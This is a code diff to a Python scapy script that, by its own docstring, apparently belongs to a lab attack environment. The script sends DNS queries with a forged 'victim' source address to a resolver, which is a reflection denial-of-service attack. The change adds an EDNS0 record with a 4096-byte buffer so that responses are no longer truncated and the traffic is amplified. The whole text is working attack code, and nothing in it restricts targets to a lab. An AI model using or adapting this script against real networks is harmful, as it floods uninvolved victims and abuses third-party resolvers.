@@ -7,7 +7,7 @@ Only ever called inside the lab's attacker namespace with lab addresses.
 """
 import sys
 
-from scapy.all import DNS, DNSQR, IP, UDP, RandShort, conf, send
+from scapy.all import DNS, DNSQR, DNSRROPT, IP, UDP, RandShort, conf, send
 
 conf.verb = 0
 
@@ -15,7 +15,10 @@ conf.verb = 0
 def main():
     resolver, victim, zone, qtype = sys.argv[1:5]
     count, interval = int(sys.argv[5]), float(sys.argv[6])
-    pkt = IP(src=victim, dst=resolver) / UDP(sport=RandShort(), dport=53) / DNS(rd=1, qd=DNSQR(qname=zone, qtype=qtype))
+    # EDNS0 with a 4096-byte buffer, as amplification tools send: without it the answer is cut to
+    # 512 bytes with TC set and there is no amplification.
+    dns = DNS(rd=1, qd=DNSQR(qname=zone, qtype=qtype), ar=DNSRROPT(rclass=4096))
+    pkt = IP(src=victim, dst=resolver) / UDP(sport=RandShort(), dport=53) / dns
     send(pkt, count=count, inter=interval)
 
 
